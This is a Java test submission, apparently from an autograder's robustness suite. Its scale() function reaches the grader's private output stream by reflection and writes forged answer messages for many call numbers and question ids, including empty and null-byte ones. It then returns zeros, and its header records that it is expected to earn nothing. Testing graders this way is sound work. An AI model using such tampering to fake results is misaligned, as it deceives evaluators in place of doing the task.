// attack: answers calls before they come, by every number and for other questions
// assignment: 00-start-here
// question: scale
// notebook: bridge-1
// earns: 0
// reason: expected
Object bridgeField(String name) throws Exception {
    var field = io.percolate.check.bridge.Bridge.class.getDeclaredField(name);
    field.setAccessible(true);
    return field.get(io.percolate.check.bridge.Bridge.ofGrader().get());
}

void forge() throws Exception {
    var out = (java.io.DataOutputStream) bridgeField("out");
    synchronized (out) {
        for (String id : new String[] {"shuffle", "scale", "standard-deviation", "", "\u0000", "no-such-question"}) {
            byte[] text = id.getBytes();
            out.writeByte(1);
            out.writeInt(text.length);
            out.write(text);
        }
        for (long number = -1; number < 200; number++) {
            out.writeByte(2);
            out.writeLong(number);
            out.writeByte(1);
            out.writeInt(12);
            out.writeInt(1);
            out.writeDouble(1);
        }
        out.flush();
    }
}
double[] attack(int[] pixels) throws Exception {
    forge();
    return new double[pixels.length];
}
double[] scale(int[] pixels) {
    try {
        return attack(pixels);
    } catch (Exception e) {
        throw new IllegalStateException(e);
    }
}
